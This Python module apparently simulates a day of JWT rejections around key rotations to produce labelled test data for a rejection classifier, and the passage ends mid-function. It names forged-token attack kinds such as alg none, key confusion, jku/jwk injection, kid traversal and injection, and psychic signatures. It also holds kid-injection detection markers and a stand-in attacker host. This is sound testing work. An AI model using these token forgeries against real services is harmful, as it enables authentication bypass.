"""The scenario simulator: one deterministic day of JWT rejections around key rotations, with truth.

Why it exists: the classifier's accuracy can only be measured against events whose cause
is known by construction, and the demo, the benchmarks and the Kafka tests all need a
realistic stream that is byte-identical for a seed. Nothing here reads the wall clock or
the environment; every random draw comes from one `random.Random(seed)`.

The story (times are fractions of the window, `hours` long, from `start`):

- `corp` (RSA RS256, plus an ES256 key for mobile tokens) rotates cleanly: the new RSA
  key is published at 0.20, signed with from 0.40, the old one removed at 0.62. Services
  whose JWKS cache predates the publication reject new-key tokens after the switch until
  their cache refreshes (stale_jwks bursts that decay service by service); a batch client
  with 12-hour tokens keeps using old-key tokens after the removal (retired_key).
- `partner` (ES256, then Ed25519 EdDSA) rotates badly: it signs with the new key from
  0.30 but publishes it only at 0.36 (unpublished_key), and removes its old key at 0.55
  while 12-hour portal tokens signed with it are still alive (retired_key).
- `staging` rotates too, but no prod service accepts it: a QA tool pointed at prod sends
  staging tokens (issuer_mismatch).
- Around that: clients with drifting clocks (clock_skew, expired, not_yet_valid), a
  buggy validator rejecting good tokens (valid), wrong audiences and parties, missing
  claims, tampered tokens, a developer's unpublished key, wrong algorithms, malformed
  tokens and JWEs, reported-only events, unsampled fingerprints, a burst of attacks, and a
  few input lines that are deliberately not valid events (dead letters).

Truth follows DESIGN.md's re-validation order exactly. Each event is planned with an
intended cause and built so that only that check fails; the truth row is then computed
by an independent judge (`_Judge`) from the token text, which key really signed it, and
the key timeline derived from the JWKS snapshots as emitted (never from the internal
publication times), so the two can be cross-checked.

Raw tokens appear only in the events and samples streams, never in the truth.
"""

from __future__ import annotations

import base64
import bisect
import hashlib
import hmac
import itertools
import json
import math
import random
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from functools import lru_cache
from importlib import resources
from pathlib import Path
from typing import Any

import jwt
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from jwt.algorithms import ECAlgorithm, OKPAlgorithm

from pipeline.models import Attack, Cause

__all__ = ["DEFAULT_START", "REPORTED_ERRORS", "Record", "Scenario", "simulate", "write_scenario"]

#: The default start: a fixed instant, so a seed alone fixes every byte of the output.
DEFAULT_START = datetime(2026, 11, 23, tzinfo=UTC)

#: The only validator messages the simulator emits, with the cause each one stands for.
REPORTED_ERRORS: dict[str, Cause] = {
    "Jwt is expired": Cause.EXPIRED,
    "IDX10223: Lifetime validation failed. The token is expired.": Cause.EXPIRED,
    "token has invalid audience": Cause.AUDIENCE_MISMATCH,
    "jwt malformed": Cause.MALFORMED,
    "Signature verification failed": Cause.BAD_SIGNATURE,
    'unexpected "iss" claim value': Cause.ISSUER_MISMATCH,
    "Jwt verification fails": Cause.BAD_SIGNATURE,
}

SKEW_WINDOW_SECONDS = 300
MAX_JWKS_CACHE_TTL_SECONDS = 86_400

_SECOND = 1_000  # internal times are integer epoch milliseconds: no float edge cases
_MINUTE = 60 * _SECOND
_HOUR = 60 * _MINUTE
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
_WATCHER_POLL = 5 * _MINUTE
_REFRESH_COOLDOWN = 5 * _MINUTE
_P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
_TIME_CLAIMS = ("exp", "nbf", "iat")
_KID_INJECTION_MARKERS = ("../", "/dev/", "'", '"', ";", "|", "`", "$", "\x00")
_B64URL = re.compile(r"^[A-Za-z0-9_-]*$")
_ATTACKER = "https://attacker.example"


# -- public records ----------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Record:
    """One message of one stream, as a producer would send it.

    `key` is the Kafka key: the service for events (so each service keeps its order), the
    issuer URL for snapshots, None for samples. `value` is one JSON line without newline,
    or deliberately bad bytes. `ts` is when it would be produced, to interleave streams.
    """

    key: str | None
    value: bytes
    ts: datetime


@dataclass(frozen=True)
class Scenario:
    """Everything one simulated window produces, plus the ground truth for the events.

    `truth` has one row per events line: `line` (1-based), `event_id`, `cause`,
    `attacks`, `confidence`, `dead_letter` (the reason for a line that is not a valid
    event, else None) and `scenario` (a short label of what happened).
    """

    config_toml: str
    snapshots: list[Record]
    events: list[Record]
    samples: list[Record]
    truth: list[dict[str, Any]]


# -- keys ----------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Key:
    """A simulator key: its private half signs, its public JWK is what an issuer publishes."""

    kid: str
    alg: str
    kty: str
    crv: str | None
    private: Any
    public_jwk: dict[str, Any]
    public_pem: bytes


_PRIVATE_MEMBERS = frozenset({"d", "p", "q", "dp", "dq", "qi", "role"})


@lru_cache(maxsize=1)
def _load_keys() -> dict[str, _Key]:
    """The shipped simulator-only keys (RSA generation cannot be seeded, so they are fixed)."""
    text = resources.files("pipeline").joinpath("data", "simulator_keys.json").read_text(encoding="utf-8")
    keys: dict[str, _Key] = {}
    for jwk in json.loads(text)["keys"]:
        private: Any
        if jwk["kty"] == "RSA":  # our own fixed keys: skip the slow validation of the primes
            n = {
                m: int.from_bytes(_b64decode(jwk[m]), "big")
                for m in ("n", "e", "d", "p", "q", "dp", "dq", "qi")
            }
            public_numbers = rsa.RSAPublicNumbers(n["e"], n["n"])
            private = rsa.RSAPrivateNumbers(
                n["p"], n["q"], n["d"], n["dp"], n["dq"], n["qi"], public_numbers
            ).private_key(unsafe_skip_rsa_key_validation=True)
        elif jwk["kty"] == "EC":
            private = ECAlgorithm.from_jwk(json.dumps(jwk))
        else:
            private = OKPAlgorithm.from_jwk(json.dumps(jwk))
        public = {k: v for k, v in jwk.items() if k not in _PRIVATE_MEMBERS}
        pem = private.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        keys[jwk["kid"]] = _Key(jwk["kid"], jwk["alg"], jwk["kty"], jwk.get("crv"), private, public, pem)
    return keys


def _b64decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _b64json(value: Any) -> str:
    return _b64(json.dumps(value, separators=(",", ":")).encode("utf-8"))


_RSA_HASHES: dict[str, Callable[[], hashes.HashAlgorithm]] = {
    "RS256": hashes.SHA256,
    "RS384": hashes.SHA384,
    "RS512": hashes.SHA512,
}


def _encode(claims: dict[str, Any], key: _Key, alg: str, header: dict[str, Any]) -> str:
    """A compact JWS. PyJWT for RSA and EdDSA; ES256 by hand with RFC 6979 deterministic
    ECDSA, because PyJWT's ECDSA is randomized and the output must be byte-identical."""
    if alg == "ES256":
        full = {"alg": alg, "typ": "JWT", **header}
        signing_input = f"{_b64json(dict(sorted(full.items())))}.{_b64json(claims)}".encode("ascii")
        der = key.private.sign(signing_input, ec.ECDSA(hashes.SHA256(), deterministic_signing=True))
        r, s = decode_dss_signature(der)
        return f"{signing_input.decode('ascii')}.{_b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"
    return jwt.encode(claims, key.private, algorithm=alg, headers=header)


def _raw_sign(key: _Key, alg: str, signing_input: bytes) -> bytes:
    """Sign without PyJWT, for hand-built hostile headers PyJWT would normalise."""
    if alg in _RSA_HASHES and isinstance(key.private, rsa.RSAPrivateKey):
        return key.private.sign(signing_input, padding.PKCS1v15(), _RSA_HASHES[alg]())
    if alg == "ES256" and isinstance(key.private, ec.EllipticCurvePrivateKey):
        der = key.private.sign(signing_input, ec.ECDSA(hashes.SHA256(), deterministic_signing=True))
        r, s = decode_dss_signature(der)
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")
    if alg == "EdDSA" and isinstance(key.private, ed25519.Ed25519PrivateKey):
        return key.private.sign(signing_input)
    raise ValueError(f"cannot sign {alg} with {key.kid}")


# -- the fixed cast: issuers, services, clients ---------------------------------------------


@dataclass(frozen=True, slots=True)
class _IssuerSpec:
    """An issuer and its rotation plan (fractions of the window; None = before the window)."""

    name: str
    url: str
    algorithms: tuple[str, ...]
    first_snapshot_before_s: int  # the watcher's first snapshot is this long before `start`
    heartbeat_min: int  # the watcher re-emits an unchanged set this often
    keys: tuple[tuple[str, float | None, float | None], ...]  # (kid, published, removed)
    lanes: tuple[tuple[str, tuple[tuple[str, float | None], ...]], ...]  # (lane, ((kid, signs from), ...))


_ISSUERS: tuple[_IssuerSpec, ...] = (
    _IssuerSpec(
        "corp",
        "https://login.acme.test",
        ("RS256", "ES256"),
        120,
        15,
        (("corp-rs-2026-10", None, 0.62), ("corp-es-2026", None, None), ("corp-rs-2026-11", 0.20, None)),
        (("rsa", (("corp-rs-2026-10", None), ("corp-rs-2026-11", 0.40))), ("ec", (("corp-es-2026", None),))),
    ),
    _IssuerSpec(
        "partner",
        "https://id.partner.test",
        ("ES256", "EdDSA"),
        45,
        30,
        (("partner-es-01", None, 0.55), ("partner-ed-02", 0.36, None)),
        (("main", (("partner-es-01", None), ("partner-ed-02", 0.30))),),
    ),
    _IssuerSpec(
        "staging",
        "https://login.staging.acme.test",
        ("RS256",),
        0,
        60,
        (("stg-rs-1", None, 0.85), ("stg-rs-2", 0.45, None)),
        (("rsa", (("stg-rs-1", None), ("stg-rs-2", 0.55))),),
    ),
)


@dataclass(frozen=True, slots=True)
class _ServiceSpec:
    """A rejecting service: its validation policy and how its JWKS cache behaves."""

    name: str
    issuers: tuple[str, ...]
    audience: str
    leeway_s: int
    required: tuple[str, ...]
    parties: tuple[str, ...] | None
    ttl_s: int
    refresh_on_unknown_kid: bool
    fetch_time: str  # "reported", "absent" (field left out) or "null" (sent as null)
    style: str  # whose error messages it reports
    utc_offset_min: int  # the offset its event times are written in
    traffic: float
    # The issuer whose rotation the cache phase is drawn against, and where in the
    # possible stale stretch the first refresh after the publication falls.
    anchor: tuple[str, float, float] | None


_SERVICES: tuple[_ServiceSpec, ...] = (
    _ServiceSpec(
        "payments-api", ("corp",), "api://payments", 30, ("exp", "iat", "sub"),
        parties=("web-app", "checkout-worker", "reconcile-job"),
        ttl_s=6 * 3600, refresh_on_unknown_kid=False, fetch_time="reported", style="jsonwebtoken",
        utc_offset_min=0, traffic=0.20, anchor=("corp", 0.3, 0.9),
    ),
    _ServiceSpec(
        "orders-api", ("corp",), "api://orders", 60, ("exp", "sub"), parties=None,
        ttl_s=3600, refresh_on_unknown_kid=True, fetch_time="reported", style="jose",
        utc_offset_min=0, traffic=0.18, anchor=None,
    ),
    _ServiceSpec(
        "inventory-svc", ("corp",), "api://inventory", 0, ("exp",), parties=None,
        ttl_s=24 * 3600, refresh_on_unknown_kid=False, fetch_time="reported", style="golang-jwt",
        utc_offset_min=0, traffic=0.10, anchor=("corp", 0.25, 0.5),
    ),
    _ServiceSpec(
        "partner-gateway", ("corp", "partner"), "api://partner-gateway", 120, ("exp", "iat"),
        parties=("partner-sync", "partner-portal"),
        ttl_s=12 * 3600, refresh_on_unknown_kid=False, fetch_time="reported", style="golang-jwt",
        utc_offset_min=0, traffic=0.12, anchor=("partner", 0.3, 0.7),
    ),
    _ServiceSpec(
        "billing-legacy", ("corp",), "api://billing", 0, ("exp", "sub"), parties=None,
        ttl_s=24 * 3600, refresh_on_unknown_kid=False, fetch_time="absent", style="dotnet",
        utc_offset_min=60, traffic=0.08, anchor=("corp", 0.45, 0.75),
    ),
    _ServiceSpec(
        "reports-api", ("corp", "partner"), "api://reports", 10, ("exp",), parties=None,
        ttl_s=15 * 60, refresh_on_unknown_kid=True, fetch_time="reported", style="pyjwt",
        utc_offset_min=0, traffic=0.10, anchor=None,
    ),
    _ServiceSpec(
        "edge-proxy", ("corp", "partner"), "api://edge", 60, ("exp",), parties=None,
        ttl_s=5 * 60, refresh_on_unknown_kid=False, fetch_time="null", style="envoy",
        utc_offset_min=0, traffic=0.22, anchor=None,
    ),
)  # fmt: skip

#: What each validator style says for a cause (only messages from REPORTED_ERRORS).
_STYLE_MESSAGES: dict[str, dict[str, str]] = {
    "envoy": {
        "expired": "Jwt is expired",
        "clock_skew_exp": "Jwt is expired",
        **dict.fromkeys(
            ("bad_signature", "unknown_kid", "stale_jwks", "unpublished_key", "retired_key", "bad_alg"),
            "Jwt verification fails",
        ),
    },
    "dotnet": dict.fromkeys(
        ("expired", "clock_skew_exp"), "IDX10223: Lifetime validation failed. The token is expired."
    ),
    "golang-jwt": {"audience_mismatch": "token has invalid audience"},
    "jsonwebtoken": {"malformed": "jwt malformed"},
    "pyjwt": dict.fromkeys(
        ("bad_signature", "stale_jwks", "unpublished_key", "retired_key"), "Signature verification failed"
    ),
    "jose": {"issuer_mismatch": 'unexpected "iss" claim value'},
}


@dataclass(frozen=True, slots=True)
class _ClientSpec:
    """A token holder: whose tokens it gets, for which audiences, and how its clock is off."""

    name: str
    issuer: str | None  # None: signed by a key no issuer publishes (a developer's laptop)
    lane: str
    audiences: tuple[str, ...]
    party_claim: str  # "azp" or "client_id"
    lifetime_s: int
    subject: str | None  # "user" (random user ids), a fixed subject, or None (no `sub` claim)
    services: tuple[str, ...]
    drift_s: int = 0  # < 0: its clock is behind (uses tokens past exp); > 0: its tokens' iat/nbf run ahead
    alg: str | None = None  # the alg its tokens carry, when not its key's own
    kid_override: str | None = None  # the kid its tokens carry, when not the signing key's


_PAY, _ORD, _INV, _BIL, _REP, _EDGE, _PGW = (
    "api://payments", "api://orders", "api://inventory", "api://billing", "api://reports", "api://edge",
    "api://partner-gateway",
)  # fmt: skip
_CLIENTS: tuple[_ClientSpec, ...] = (
    _ClientSpec("web-app", "corp", "rsa", (_PAY, _ORD, _REP, _EDGE), "azp", 3600, "user",
                ("payments-api", "orders-api", "reports-api", "edge-proxy")),
    _ClientSpec("mobile-app", "corp", "ec", (_ORD, _EDGE, _REP), "azp", 1800, "user",
                ("orders-api", "edge-proxy", "reports-api")),
    _ClientSpec("checkout-worker", "corp", "rsa", (_PAY, _INV, _BIL), "client_id", 3600, "svc-checkout",
                ("payments-api", "inventory-svc", "billing-legacy"), drift_s=-250),
    _ClientSpec("batch-exporter", "corp", "rsa", (_REP, _INV, _BIL), "client_id", 12 * 3600, "svc-exporter",
                ("reports-api", "inventory-svc", "billing-legacy")),
    _ClientSpec("reconcile-job", "corp", "rsa", (_PAY, _BIL), "client_id", 3600, None,
                ("payments-api", "billing-legacy")),
    _ClientSpec("tv-app", "corp", "rsa", (_EDGE, _ORD), "azp", 3600, "user",
                ("edge-proxy", "orders-api"), drift_s=-200),
    _ClientSpec("kiosk-fleet", "corp", "rsa", (_EDGE, _ORD, _INV), "client_id", 3600, "svc-kiosk",
                ("edge-proxy", "orders-api", "inventory-svc"), drift_s=170),
    _ClientSpec("pos-terminal", "corp", "rsa", (_EDGE, _ORD, _INV), "client_id", 3600, "svc-pos",
                ("edge-proxy", "orders-api", "inventory-svc"), drift_s=5400),
    _ClientSpec("partner-sync", "partner", "main", (_PGW, _REP, _EDGE), "azp", 3600, "partner-svc-sync",
                ("partner-gateway", "reports-api", "edge-proxy")),
    _ClientSpec("partner-portal", "partner", "main", (_PGW, _EDGE), "azp", 12 * 3600, "user",
                ("partner-gateway", "edge-proxy")),
    _ClientSpec("qa-runner", "staging", "rsa", (_PAY, _ORD), "azp", 3600, "qa-bot",
                ("payments-api", "orders-api")),
    _ClientSpec("dev-laptop", None, "", (_ORD, _EDGE, _REP), "azp", 3600, "user",
                ("orders-api", "edge-proxy", "reports-api")),
    _ClientSpec("analytics-etl", "corp", "rsa", (_REP,), "client_id", 3600, "svc-analytics",
                ("reports-api",), alg="RS512"),
    _ClientSpec("sso-bridge", "corp", "rsa", (_ORD, _REP), "azp", 3600, "user",
                ("orders-api", "reports-api"), kid_override="corp-es-2026"),
)  # fmt: skip

_ISSUER_BY_NAME = {i.name: i for i in _ISSUERS}
_SERVICE_BY_NAME = {s.name: s for s in _SERVICES}
_CLIENT_BY_NAME = {c.name: c for c in _CLIENTS}

#: Clients whose ordinary tokens are otherwise valid everywhere they call (rotation victims).
_ORDINARY = (
    "web-app", "mobile-app", "checkout-worker", "batch-exporter", "tv-app", "partner-sync", "partner-portal",
)  # fmt: skip
#: Clients holding long-lived tokens, which outlive a key's removal.
_LONG_LIVED = ("batch-exporter", "partner-portal")


# -- the mix ---------------------------------------------------------------------------------

#: Share of each kind of event. Rotation, expiry and skew dominate, as in a real rotation day.
_MIX: tuple[tuple[str, float], ...] = (
    ("rotation-stale-cache", 0.240),
    ("rotation-unpublished-key", 0.040),
    ("rotation-retired-key", 0.035),
    ("expired-token-reuse", 0.160),
    ("clock-behind", 0.070),
    ("clock-ahead", 0.050),
    ("clock-far-ahead", 0.020),
    ("buggy-validator", 0.050),
    ("wrong-audience", 0.035),
    ("unauthorized-party", 0.015),
    ("missing-aud", 0.010),
    ("staging-token", 0.020),
    ("issuer-typo", 0.010),
    ("missing-claim", 0.030),
    ("tampered-payload", 0.015),
    ("corrupted-signature", 0.005),
    ("dev-key", 0.012),
    ("wrong-alg", 0.008),
    ("malformed", 0.020),
    ("jwe", 0.006),
    ("reported-only", 0.070),
    ("attack", 0.030),
    ("bad-line", 0.004),
)

_ATTACKS = (
    "alg-none", "alg-none-kid", "key-confusion", "key-confusion-devnull", "jku-unknown-kid", "jku-known-kid",
    "x5u", "jwk-unknown-kid", "jwk-known-kid", "kid-traversal", "kid-sqli", "kid-command", "kid-nul",
    "psychic-zero", "psychic-order",
)  # fmt: skip
_MALFORMED = (
    "undefined", "bearer-prefix", "truncated", "four-segments", "header-not-object", "payload-not-json",
    "alg-not-string", "exp-not-number", "ellipsis",
)  # fmt: skip
_EPISODIC = frozenset({"expired-token-reuse", "clock-behind", "clock-ahead", "clock-far-ahead"})
_BAD_LINES = ("not-json", "log-line", "invalid-utf8", "missing-ts", "naive-ts", "unknown-service")


# -- time helpers ----------------------------------------------------------------------------


def _ms(when: datetime) -> int:
    return (when - _EPOCH) // timedelta(milliseconds=1)


def _dt(ms: int) -> datetime:
    return _EPOCH + timedelta(milliseconds=ms)


def _iso(ms: int, offset_min: int = 0) -> str:
    """RFC 3339 with milliseconds, in the writer's own offset (UTC as `Z`)."""
    when = _dt(ms)
    if offset_min:
        when = when.astimezone(timezone(timedelta(minutes=offset_min)))
    return when.isoformat(timespec="milliseconds").replace("+00:00", "Z")


# -- the key timeline, as the emitted snapshots show it --------------------------------------


@dataclass(frozen=True, slots=True)
class _SeenKey:
    issuer: str  # issuer name
    kid: str
    kty: str
    crv: str | None
    first_seen: int
    removed_at: int | None


class _Timeline:
    """Key timing derived from the snapshots exactly as emitted (DESIGN.md step 8)."""

    def __init__(self, snapshots: Sequence[tuple[str, int, tuple[str, ...]]]) -> None:
        self.earliest: dict[str, int] = {}
        first: dict[tuple[str, str], int] = {}
        removed: dict[tuple[str, str], int] = {}
        present: dict[str, set[str]] = {}
        for issuer, fetched, kids in sorted(snapshots, key=lambda s: (s[0], s[1])):
            self.earliest.setdefault(issuer, fetched)
            for kid in kids:
                first.setdefault((issuer, kid), fetched)
            for kid in sorted(present.get(issuer, set()) - set(kids)):
                removed.setdefault((issuer, kid), fetched)
            present[issuer] = set(kids)
        keys = _load_keys()
        self.by_kid: dict[str, list[_SeenKey]] = {}
        self.by_issuer_kid: dict[tuple[str, str], _SeenKey] = {}
        for (issuer, kid), seen in first.items():
            key = keys[kid]
            entry = _SeenKey(issuer, kid, key.kty, key.crv, seen, removed.get((issuer, kid)))
            self.by_kid.setdefault(kid, []).append(entry)
            self.by_issuer_kid[(issuer, kid)] = entry

    def first_seen(self, issuer: str, kid: str) -> int | None:
        entry = self.by_issuer_kid.get((issuer, kid))
        return entry.first_seen if entry else None

    def removed_at(self, issuer: str, kid: str) -> int | None:
        entry = self.by_issuer_kid.get((issuer, kid))
        return entry.removed_at if entry else None


# -- tokens ----------------------------------------------------------------------------------


@dataclass(slots=True)
class _Token:
    """A token as the world knows it: its text, which published key really signed it, how it travels."""

    text: str
    signed_with: str | None  # the simulator key that signed it (None: no real signature)
    signer: str | None  # kid of the published key whose valid signature this is, else None
    iat: int | None  # seconds
    exp: int | None
    mode: str  # "inline", "sampled" (event carries the fingerprint, sampler sends the token), "unsampled"
    sha256: str
    samples_sent: int = 0


# -- the independent judge (ground truth) ------------------------------------------------------


def _strict_b64(segment: str) -> bytes:
    if not _B64URL.match(segment) or len(segment) % 4 == 1:
        raise ValueError("not base64url")
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _strict_object(segment: str) -> dict[str, Any]:
    value = json.loads(_strict_b64(segment).decode("utf-8"))
    if not isinstance(value, dict):
        raise ValueError("not a JSON object")
    return value


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


_ALG_KEY_TYPES: dict[str, tuple[str, tuple[str, ...]]] = {
    **{a: ("RSA", ()) for a in ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512")},
    "ES256": ("EC", ("P-256",)),
    "ES384": ("EC", ("P-384",)),
    "ES512": ("EC", ("P-521",)),
    "EdDSA": ("OKP", ("Ed25519", "Ed448")),
}


def _fits(alg: str, key: _SeenKey) -> bool:
    spec = _ALG_KEY_TYPES.get(alg)
    return spec is not None and spec[0] == key.kty and (not spec[1] or key.crv in spec[1])


def _attacks(header: dict[str, Any], signature: bytes) -> list[str]:
    """Every attack label of DESIGN.md that applies (every service here publishes asymmetric keys)."""
    found: set[Attack] = set()
    alg = header.get("alg")
    if isinstance(alg, str):
        if alg.lower() == "none":
            found.add(Attack.ALG_NONE)
        if alg.upper().startswith("HS"):
            found.add(Attack.KEY_CONFUSION)
        if alg == "ES256" and len(signature) == 64:
            r, s = int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big")
            if min(r, s) == 0 or max(r, s) >= _P256_ORDER:
                found.add(Attack.PSYCHIC_SIGNATURE)
    if "jwk" in header:
        found.add(Attack.JWK_INJECTION)
    if "jku" in header or "x5u" in header:
        found.add(Attack.JKU_INJECTION)
    kid = header.get("kid")
    if isinstance(kid, str) and any(marker in kid for marker in _KID_INJECTION_MARKERS):
        found.add(Attack.KID_INJECTION)
    return [a.value for a in Attack if a in found]


class _Judge:
    """DESIGN.md's re-validation order, applied with knowledge of which key really signed.

    Independent of `pipeline.engine.classify` on purpose: it is the yardstick for it. Signature
    checks are replaced by the simulator's own knowledge (`_Token.signer`), everything else
    is read from the token text and the snapshot-derived timeline.
    """

    def __init__(self, timeline: _Timeline) -> None:
        self.timeline = timeline
        self._parsed: dict[str, Cause | tuple[dict[str, Any], dict[str, Any], str, list[str]]] = {}

    def token(
        self, token: _Token, service: _ServiceSpec, ts: int, fetched: int | None
    ) -> tuple[Cause, list[str]]:
        parsed = self._parsed.get(token.text)
        if parsed is None:
            parsed = self._parsed[token.text] = self._parse(token.text)
        if isinstance(parsed, Cause):
            return parsed, []
        header, claims, alg, attacks = parsed
        return self._checks(token, header, claims, alg, service, ts, fetched), attacks

    @staticmethod
    def _parse(text: str) -> Cause | tuple[dict[str, Any], dict[str, Any], str, list[str]]:
        """Step 1 (parse), done once per token: (header, claims, alg, attacks), else the cause."""
        parts = text.split(".")
        if len(parts) == 5:
            return Cause.UNVERIFIABLE
        if len(parts) != 3:
            return Cause.MALFORMED
        try:
            header = _strict_object(parts[0])
            claims = _strict_object(parts[1])
            signature = _strict_b64(parts[2])
        except (ValueError, UnicodeDecodeError):
            return Cause.MALFORMED
        alg = header.get("alg")
        if not isinstance(alg, str) or any(c in claims and not _is_number(claims[c]) for c in _TIME_CLAIMS):
            return Cause.MALFORMED
        return header, claims, alg, _attacks(header, signature)

    def _checks(
        self,
        token: _Token,
        header: dict[str, Any],
        claims: dict[str, Any],
        alg: str,
        service: _ServiceSpec,
        ts: int,
        fetched: int | None,
    ) -> Cause:
        # 2. Alg policy: the service's issuers' algorithms; then the kid's key types (only
        # when the kid names keys at all: an unknown kid is step 3's unknown_kid).
        allowed = {a for name in service.issuers for a in _ISSUER_BY_NAME[name].algorithms}
        if alg not in allowed:
            return Cause.BAD_ALG
        kid = header.get("kid")
        candidates = self.timeline.by_kid.get(kid, []) if isinstance(kid, str) else []
        if candidates and not any(_fits(alg, k) for k in candidates):
            return Cause.BAD_ALG
        # 3. Key and signature against every configured issuer's keys, removed ones included.
        if not candidates:
            return Cause.UNKNOWN_KID
        key = next((k for k in candidates if _fits(alg, k) and k.kid == token.signer), None)
        if key is None:
            return Cause.BAD_SIGNATURE
        if key.issuer not in service.issuers:
            return Cause.ISSUER_MISMATCH
        # 4. iss, 5. aud then azp.
        if claims.get("iss") not in {_ISSUER_BY_NAME[n].url for n in service.issuers}:
            return Cause.ISSUER_MISMATCH
        aud = claims.get("aud")
        if not (aud == service.audience or (isinstance(aud, list) and service.audience in aud)):
            return Cause.AUDIENCE_MISMATCH
        if service.parties is not None and claims.get("azp", claims.get("client_id")) not in service.parties:
            return Cause.AUDIENCE_MISMATCH
        # 6. Time at the event's ts, with the service's leeway.
        leeway = service.leeway_s * _SECOND
        for claim in _TIME_CLAIMS:
            if claim not in claims:
                continue
            value = claims[claim] * _SECOND
            overshoot = ts - (value + leeway) if claim == "exp" else value - (ts + leeway)
            if overshoot > 0:
                if overshoot <= SKEW_WINDOW_SECONDS * _SECOND:
                    return Cause.CLOCK_SKEW
                return Cause.EXPIRED if claim == "exp" else Cause.NOT_YET_VALID
        # 7. Required claims.
        if any(c not in claims for c in service.required):
            return Cause.MISSING_CLAIM
        # 8. Key timing, from the snapshots as emitted.
        if key.first_seen > ts:
            return Cause.UNPUBLISHED_KEY
        if key.removed_at is not None and key.removed_at <= ts:
            return Cause.RETIRED_KEY
        if fetched is not None:
            if fetched < key.first_seen:
                return Cause.STALE_JWKS
        elif (
            ts - key.first_seen < MAX_JWKS_CACHE_TTL_SECONDS * _SECOND
            and key.first_seen > self.timeline.earliest[key.issuer]
        ):
            return Cause.STALE_JWKS
        return Cause.VALID


# -- planning ----------------------------------------------------------------------------------


@dataclass(slots=True)
class _Plan:
    """One event to build: when, what kind, where, and for whom."""

    ts: int
    kind: str
    variant: str
    service: str
    client: str | None
    kid: str | None = None  # the key the token must be signed with (rotation kinds)


@dataclass(frozen=True, slots=True)
class _Interval:
    """A stretch in which a service rejects tokens of one client for a rotation reason."""

    service: str
    client: str
    kid: str
    start: int
    end: int
    weight: float
    ramp_from: int  # new-key tokens spread over about an hour from here
    decay_to: int | None = None  # long-lived old-key tokens die out towards here


def _allocate(total: int, shares: Sequence[float]) -> list[int]:
    """Largest-remainder split of `total` by `shares` (deterministic, sums exactly)."""
    norm = sum(shares)
    raw = [total * s / norm for s in shares]
    counts = [math.floor(r) for r in raw]
    order = sorted(range(len(raw)), key=lambda i: (counts[i] - raw[i], i))
    for i in order[: total - sum(counts)]:
        counts[i] += 1
    return counts


def _round_robin(rng: random.Random, variants: Sequence[str], count: int) -> list[str]:
    """`count` variants, every one of them as soon as count allows, in a shuffled order."""
    out: list[str] = []
    while len(out) < count:
        batch = list(variants)
        rng.shuffle(batch)
        out.extend(batch)
    out = out[:count]
    rng.shuffle(out)
    return out


class _World:
    """The simulated window: schedules, caches, token holders, and the events they cause."""

    def __init__(self, seed: int, hours: float, start: datetime, unique_tokens: bool) -> None:
        if start.tzinfo is None or start.utcoffset() is None:
            raise ValueError("start must be timezone-aware (DESIGN.md: times are RFC 3339 with an offset)")
        if hours <= 0:
            raise ValueError("hours must be positive")
        self.rng = random.Random(seed)
        self.unique_tokens = unique_tokens
        self.start = _ms(start.astimezone(UTC).replace(microsecond=start.microsecond // 1000 * 1000))
        self.end = self.start + round(hours * _HOUR)
        self.keys = _load_keys()
        self.lanes: dict[tuple[str, str], list[tuple[str, int | None]]] = {}
        self._schedule_issuers()
        self.timeline = _Timeline(self.snapshot_sets)
        self.judge = _Judge(self.timeline)
        self.fetches: dict[str, list[int]] = {}
        self._schedule_caches()
        self.cache: dict[tuple[str, str], _Token] = {}
        self.event_ids: set[str] = set()
        self.samples: list[Record] = []

    def at(self, fraction: float | None) -> int | None:
        return None if fraction is None else self.start + round(fraction * (self.end - self.start))

    # -- issuers and the watcher ----------------------------------------------------------------

    def _schedule_issuers(self) -> None:
        """Publication times snapped to the watcher's 5-minute polls, then the snapshots it emits."""
        self.snapshot_sets: list[tuple[str, int, tuple[str, ...]]] = []
        self.snapshot_records: list[Record] = []
        for spec in _ISSUERS:
            first = self.start - spec.first_snapshot_before_s * _SECOND
            polls = list(range(first, self.end + 1, _WATCHER_POLL))

            def snap(fraction: float | None, polls: list[int] = polls) -> int | None:
                moment = self.at(fraction)
                if moment is None:
                    return None
                index = bisect.bisect_left(polls, moment)
                return polls[index] if index < len(polls) else self.end + _HOUR

            lives = [(kid, snap(pub), snap(rem)) for kid, pub, rem in spec.keys]
            for lane, steps in spec.lanes:
                self.lanes[(spec.name, lane)] = [(kid, self.at(frac)) for kid, frac in steps]
            last_kids: tuple[str, ...] | None = None
            last_emit = first
            for poll in polls:
                kids = tuple(
                    kid
                    for kid, pub, rem in lives
                    if (pub is None or pub <= poll) and (rem is None or poll < rem)
                )
                if kids != last_kids or poll - last_emit >= spec.heartbeat_min * _MINUTE:
                    self.snapshot_sets.append((spec.name, poll, kids))
                    document = {
                        "issuer": spec.url,
                        "fetched_at": _iso(poll),
                        "jwks": {"keys": [self.keys[k].public_jwk for k in kids]},
                    }
                    self.snapshot_records.append(
                        Record(spec.url, json.dumps(document, separators=(",", ":")).encode(), _dt(poll))
                    )
                    last_kids, last_emit = kids, poll
        order = sorted(range(len(self.snapshot_records)), key=lambda i: (self.snapshot_sets[i][1], i))
        self.snapshot_records = [self.snapshot_records[i] for i in order]

    def signing_key(self, issuer: str, lane: str, when: int) -> str:
        """The kid the issuer signs with on that lane at `when` (its plan, not what it published)."""
        current = self.lanes[(issuer, lane)][0][0]
